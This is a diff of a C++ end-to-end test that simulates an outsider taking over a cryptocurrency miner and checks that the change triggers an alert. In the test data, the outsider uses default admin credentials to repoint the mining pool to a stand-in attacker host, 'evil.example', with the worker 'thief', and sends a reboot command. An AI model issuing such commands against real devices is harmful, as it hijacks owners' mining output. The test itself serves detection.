@@ -193,7 +193,7 @@ void tst_E2eEvents::anOutsidersFallbackIsNotedWithinOnePollAndAnAlert()
              "\"stratumUser\":\"thief\"}]}",
              1);
     outsider("PATCH", u"/api/system"_s, flat, 2);
-    outsiderSays("setpool", "root,root,1,stratum+tcp://evil.example:4444,thief,x", 3);
+    outsiderSays("setpool", "admin,admin,1,stratum+tcp://evil.example:4444,thief,x", 3);
     outsiderSays("ascset", "0,reboot,0", 3);
     const auto taken = [this] {
         QSet<QString> miners;
